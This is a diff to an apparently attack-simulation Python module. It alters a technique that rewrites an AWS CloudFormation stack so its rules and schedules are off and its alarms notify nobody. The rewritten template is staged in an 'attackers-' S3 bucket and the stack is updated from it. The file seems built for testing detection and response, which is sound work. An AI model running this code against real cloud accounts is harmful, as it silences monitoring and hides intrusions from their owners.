@@ -26,7 +26,10 @@ def _delete_table(a: Intruder) -> None:
 
 
 def _turn_everything_off(a: Intruder) -> None:
-    """All that calls the function, and the alarms' tongues, by one call of CloudFormation."""
+    """All that calls the function, and the alarms' tongues, by one call of CloudFormation.
+
+    A template of that size is taken from a bucket alone (CloudFormation user guide, "Quotas").
+    """
     found = a.cloudformation.get_template(StackName=a.side.stack, TemplateStage="Original")
     template = found["TemplateBody"]
     wanted = template if isinstance(template, dict) else json.loads(template)
@@ -37,9 +40,12 @@ def _turn_everything_off(a: Intruder) -> None:
     }
     for each in wanted["Resources"].values():
         each.get("Properties", {}).update(off.get(each["Type"], {}))
+    bucket = f"attackers-{a.names.account}"
+    a.s3.create_bucket(Bucket=bucket)
+    a.s3.put_object(Bucket=bucket, Key="off.json", Body=json.dumps(wanted).encode())
     a.cloudformation.update_stack(
         StackName=a.side.stack,
-        TemplateBody=json.dumps(wanted),
+        TemplateURL=f"https://s3.amazonaws.com/{bucket}/off.json",
         Capabilities=["CAPABILITY_NAMED_IAM"],
     )
 
@@ -163,7 +169,10 @@ TECHNIQUES = (
         id="stack-updated-off",
         words="Update the function's stack so that its rules and schedules are off and its alarms "
         "tell nobody",
-        rights=("cloudformation:UpdateStack", "cloudformation:GetTemplate"),
+        rights=(
+            *("cloudformation:UpdateStack", "cloudformation:GetTemplate", "s3:CreateBucket"),
+            *("s3:GetObject", "s3:PutObject"),
+        ),
         against=EITHER,
         ends="told",
         how=(
